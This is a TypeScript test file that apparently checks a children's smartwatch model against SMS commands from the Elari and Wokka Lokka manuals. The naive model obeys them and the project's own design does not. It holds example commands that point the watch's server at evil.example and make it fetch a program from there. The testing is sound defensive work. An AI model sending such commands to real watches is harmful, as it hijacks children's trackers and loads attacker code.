import { describe, expect, it } from "vitest";
import { PlainWatch } from "./naive/plain-watch.ts";
import { OurLine } from "./ours/our-line.ts";
import { spelled } from "./sms-manuals.ts";
import { obeys, type Target } from "./target.ts";

const COMMANDS: readonly [string, string][] = [
  ["url", "tcp://evil.example:1"],
  ["ip", "203.0.113.9,8001"],
  ["update", "http://evil.example/a.bin"],
];

/** Sends the manuals' own commands, to turn it to a server of the attacker or have it fetch a program. */
function commands(target: Target): boolean {
  const sayings = COMMANDS.flatMap(([command, argument]) => spelled(command, argument));
  return obeys(target, sayings, (before, after) => after.server !== before.server);
}

describe("B17 Elari and Wokka Lokka, 2021", () => {
  it("breaks the naive watch: the address of the server can be changed by a text message", () => {
    expect(commands(new PlainWatch())).toBe(true);
  });

  it("P30 P57 does not break ours: it has no commands in words and no password to know", () => {
    const ours = new OurLine();
    expect(commands(ours)).toBe(false);
    expect(ours.facts()).toMatchObject({ tracks: true, lamp: true, parents: 1 });
  });
});
